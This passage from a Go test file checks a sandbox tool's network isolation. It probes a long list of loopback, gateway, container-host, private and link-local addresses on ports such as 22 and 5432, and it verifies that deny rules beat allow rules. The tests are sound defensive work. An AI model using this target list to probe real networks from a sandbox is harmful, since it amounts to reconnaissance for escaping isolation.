		s.Leads("home.example", "93.184.216.7", "2606:2800:220:1::7", "192.168.7.7")
		var ways []string
		for _, host := range []string{
			"93.184.216.7", "[2606:2800:220:1::7]", "[64:ff9b::5db8:d807]", "home.example",
			"127.0.0.1", "127.0.0.53", "[::1]", "0.0.0.0", "[::]", "localhost", "192.168.7.7", "[fd12:3456::7]", "192.168.7.1", "10.0.2.2", "10.0.2.3", "172.17.0.1", "169.254.1.1", "100.64.0.1",
			"[fe80::1%eth0]", "198.18.0.2", "198.18.0.3", "198.19.255.254", "[fd62:6f74:6879::2]", "[fd62:6f74:6879::3]", "224.0.0.251", "[ff02::fb]", "255.255.255.255", "198.19.0.1",
			"host.docker.internal", "gateway.docker.internal", "host.containers.internal", "host.bothy", "box.bothy", "neighbour", "neighbour.bothy", "_gateway", "router.lan", "printer.local",
		} {
			for _, port := range []string{"22", "5432", "7777", "8080"} {
				ways = append(ways, "tcp="+host+":"+port)
			}
		}
		out := p.tries(t, append(ways, "scan=198.18.0.1,1,600", "scan=fd62:6f74:6879::1,1,200", "scan=198.18.0.1,8000,8100")...)
		if strings.Contains(out, "GOT tcp=") || !strings.Contains(out, `,1,600: "53 80"`) || !strings.Contains(out, `,1,200: "53 80"`) || !strings.Contains(out, `8000,8100: ""`) {
			t.Errorf("of the gateway, the host and others this is open:\n%s", out)
		}
		c.Must(t, "rm", "-f", "neighbour")
		c.Must(t, "policy", "allow", "93.184.216.7:5432", "0.0.0.0/0", "--sandbox", "box")
		if out := p.tries(t, "hello=93.184.216.7:5432", "tcp=93.184.216.7:22"); !strings.Contains(out, "GOT hello=93.184.216.7:5432") {
			t.Errorf("the one port that is open is not:\n%s", out)
		}
		p.onlyControl(t, "dns home.example", "tcp 93.184.216.7:5432")
	})
}

// TestA21DenyBeatsAllow checks that a deny rule always wins, and that rules of its own give nothing
// to a sandbox without permissions.
func TestA21DenyBeatsAllow(t *testing.T) {
	harness.AsUser(t)
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		p := newSpy(t, c, s)
		c.Must(t, "policy", "deny", "**.shut.example", "203.14.0.0/16")
		r := c.Run("policy", "allow", "api.shut.example:443", "203.14.1.1:443", "--sandbox", "box")
		if r.Code != 0 || strings.Count(r.Stderr, "never counts") != 2 {
			t.Errorf("rules that say nothing are made without a word: %v", r)
		}
		ways := []string{"tcp=api.shut.example:443", "tcp=203.14.1.1:443", "tcp=v1.api.shut.example:443"}
		p.tries(t, ways...)
		c.Write(t, c.Work+"/bothy.yaml", "network: {allow: [api.shut.example, other.example, "+allowed4+", "+allowed6+"]}\n")
		p.tries(t, append(ways, "tcp=other.example:443")...)
		c.Must(t, "stop", "box")
		c.Write(t, c.Work+"/bothy.yaml", "network: {presets: [none]}\n")
		if r := c.Run(append([]string{"exec", "box"}, p.argv(ways...)...)...); strings.Contains(r.Stdout, "GOT") {
			t.Errorf("with preset none: %v", r)
		}
		p.onlyControl(t)
	})
}
